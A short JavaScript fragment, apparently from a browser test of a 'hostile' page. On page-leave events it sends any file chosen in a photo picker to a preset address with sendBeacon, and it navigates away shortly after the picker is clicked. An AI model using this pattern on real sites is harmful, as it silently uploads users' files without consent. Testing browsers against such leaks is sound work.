// Leaves and comes back while the photo is held, and sends what there is on the way out.
for (const name of ['pagehide', 'beforeunload', 'visibilitychange', 'pageshow']) {
  addEventListener(name, () => { if (photo.files[0]) navigator.sendBeacon(`${address}&name=x`, photo.files[0]); }, true);
}
for (const name of ['input', 'change']) photo.addEventListener(name, look);
addEventListener('load', () => {
  settle(sessionStorage.left);
  delete sessionStorage.left;
});
photo.addEventListener('click', () => setTimeout(() => { sessionStorage.left = 'yes'; location = '/hostile/pick/left' + location.search; }, 700));
